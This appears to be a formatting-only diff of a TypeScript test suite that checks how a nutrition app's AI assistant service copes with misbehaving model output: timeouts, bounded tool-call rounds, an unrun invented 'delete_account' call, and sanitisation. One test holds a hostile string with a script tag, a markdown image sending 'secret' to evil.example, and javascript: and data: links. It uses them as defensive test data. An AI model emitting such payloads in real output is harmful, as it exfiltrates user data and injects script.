@@ -23,11 +23,15 @@ async function meet(fault: ModelFault): Promise<void> {
   const start = performance.now();
   const answer = ask(ana, id, 'What has fiber?');
   // Others are served meanwhile.
-  if (SILENT.includes(fault)) for (let turn = 0; turn < 20; turn += 1) expect((await ana.as('GET', '/api/ai/conversations')).status).toBe(200);
+  if (SILENT.includes(fault))
+    for (let turn = 0; turn < 20; turn += 1) expect((await ana.as('GET', '/api/ai/conversations')).status).toBe(200);
   const { status, json } = await answer;
   expect(performance.now() - start).toBeLessThan(30_000);
   expect([status, json]).toEqual([502, { error: ERRORS.assistant_failed.message, code: 'assistant_failed' }]);
-  expect((await messagesOf(ana, id)).at(-1)).toMatchObject({ status: 'failed', content: HALF.includes(fault) ? 'Oats are ' : ERRORS.assistant_failed.message });
+  expect((await messagesOf(ana, id)).at(-1)).toMatchObject({
+    status: 'failed',
+    content: HALF.includes(fault) ? 'Oats are ' : ERRORS.assistant_failed.message,
+  });
   expect(test.logs()).not.toContain('What has fiber?');
   expect(model.calls).toHaveLength(1);
   await model.close();
@@ -35,10 +39,14 @@ async function meet(fault: ModelFault): Promise<void> {
 }
 
 describe('a model that misbehaves', () => {
-  it.concurrent.each(MODEL_FAULTS.filter((fault) => fault !== 'endless stream'))('%s: the sentence of the specification within 30 seconds, and a transcript that says so', { timeout: 1_800_000 }, async (fault) => {
-    // Four at a time, each with a service of its own: after a few failures one would not ask any more.
-    for (let left = times(1, 20); left > 0; left -= 4) await Promise.all(Array.from({ length: Math.min(left, 4) }, () => meet(fault)));
-  });
+  it.concurrent.each(MODEL_FAULTS.filter((fault) => fault !== 'endless stream'))(
+    '%s: the sentence of the specification within 30 seconds, and a transcript that says so',
+    { timeout: 1_800_000 },
+    async (fault) => {
+      // Four at a time, each with a service of its own: after a few failures one would not ask any more.
+      for (let left = times(1, 20); left > 0; left -= 4) await Promise.all(Array.from({ length: Math.min(left, 4) }, () => meet(fault)));
+    },
+  );
 
   it('an endpoint that is not there is a failure like any other', async () => {
     const test = await startTestApp('sqlite', { env: { AI_BASE_URL: CLOSED_PORT } });
@@ -67,13 +75,23 @@ describe('a model that misbehaves', () => {
   it('what it calls in vain or without end stops after six rounds, and nothing it invents is run', async () => {
     const { test, model } = await startWithModel('sqlite');
     const ana = await premiumMember(test, 'ana');
-    model.script((_call, round) => (round === 0
-      ? { calls: [{ name: 'delete_account', arguments: { userId: ana.id } }, { name: 'product', arguments: '{"barcode": "no' }, { name: 'search_products', arguments: { text: 7 } }] }
-      : { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] }));
+    model.script((_call, round) =>
+      round === 0
+        ? {
+            calls: [
+              { name: 'delete_account', arguments: { userId: ana.id } },
+              { name: 'product', arguments: '{"barcode": "no' },
+              { name: 'search_products', arguments: { text: 7 } },
+            ],
+          }
+        : { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] },
+    );
     expect((await ask(ana, await begin(ana), 'What should I eat?')).status).toBe(502);
     expect(model.calls).toHaveLength(6);
     expect(model.calls.at(-1)?.toolChoice).toBe('none');
-    model.script((_call, round) => (round < 2 ? { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['You have ', 'no scans.'] }));
+    model.script((_call, round) =>
+      round < 2 ? { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['You have ', 'no scans.'] },
+    );
     expect((await ask(ana, await begin(ana), 'What did I scan?')).json.response).toBe('You have no scans.');
     expect((await ana.as('GET', '/api/auth/user')).status).toBe(200);
   });
@@ -81,7 +99,9 @@ describe('a model that misbehaves', () => {
   it('what it says before it looks something up stands apart from what it says after', async () => {
     const { test, model } = await startWithModel('sqlite');
     const ana = await premiumMember(test, 'ana');
-    model.script((_call, round) => (round === 0 ? { text: ['Let me ', 'look.'], calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['No scans.'] }));
+    model.script((_call, round) =>
+      round === 0 ? { text: ['Let me ', 'look.'], calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['No scans.'] },
+    );
     expect((await ask(ana, await begin(ana), 'What did I scan?')).json.response).toBe('Let me look.\n\nNo scans.');
   });
 
@@ -99,7 +119,10 @@ describe('a model that misbehaves', () => {
     const nasty = `<script>alert(1)</script>![x](https://evil.example/?d=secret) [a](javascript:alert(1)) [b](data:text/html,x) ${Array.from({ length: 1000 }, (_, at) => `[^${at}]`).join('')}`;
     model.script(() => ({ text: nasty.match(/[^]{1,7}/gu) ?? [] }));
     const events = await eventsOf(stream(test, ana, id, 'Hello'));
-    const shown = events.filter(({ event }) => event === 'delta').map(({ data }) => data.text).join('');
+    const shown = events
+      .filter(({ event }) => event === 'delta')
+      .map(({ data }) => data.text)
+      .join('');
     expect(shown).toMatch(/^alert\(1\)x \[a\]\(\) \[b\]\(\) /u);
     expect(shown).not.toMatch(/evil|javascript|data:|<script|\[\^/u);
     expect((await messagesOf(ana, id)).at(-1)?.content).toBe(shown);
